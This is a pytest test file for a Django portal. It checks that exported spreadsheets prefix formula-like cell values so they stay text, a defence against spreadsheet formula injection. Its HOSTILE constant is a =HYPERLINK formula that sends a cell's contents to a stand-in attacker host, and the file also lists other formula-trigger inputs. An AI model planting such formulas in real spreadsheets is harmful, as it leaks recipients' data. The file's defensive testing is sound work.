"""Every sheet the portal writes neutralises cells that a spreadsheet would run as a formula
(issue 12, finding 1): a self-registered name like =HYPERLINK(...) must stay text."""

import io

import pytest
from openpyxl import load_workbook

from certificates import services
from certificates.models import DocumentKind
from portal.core.spreadsheets import neutralise
from portal.organizations.models import Organization
from tests.test_certificates_helpers import another_applicant
from tests.test_documents import evaluation_at_window, file_of
from tests.workflow_helpers import user

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&D3,"查看详情")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1"])
def test_formula_like_text_is_prefixed(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["张伟", "", "1-2", 42, None, "a=b"])
def test_other_values_are_kept(value):
    assert neutralise(value) == value


def test_roster_cells_cannot_become_formulas(demo, django_capture_on_commit_callbacks):
    application = evaluation_at_window(another_applicant("李秀英"))
    person = application.applicant
    person.real_name = HOSTILE
    person.save(update_fields=["real_name"])
    unit = application.unit
    unit.name = "=1+1单位"
    unit.save(update_fields=["name"])
    department = Organization.objects.get(name="五华区人力资源和社会保障局")
    with django_capture_on_commit_callbacks(execute=True):
        job = services.department_job_create(
            user=user("dept_reviewer"), kind=DocumentKind.ROSTER, department=department, year=application.year
        )
    sheet = load_workbook(io.BytesIO(file_of(job))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE in values and "'=1+1单位" in values
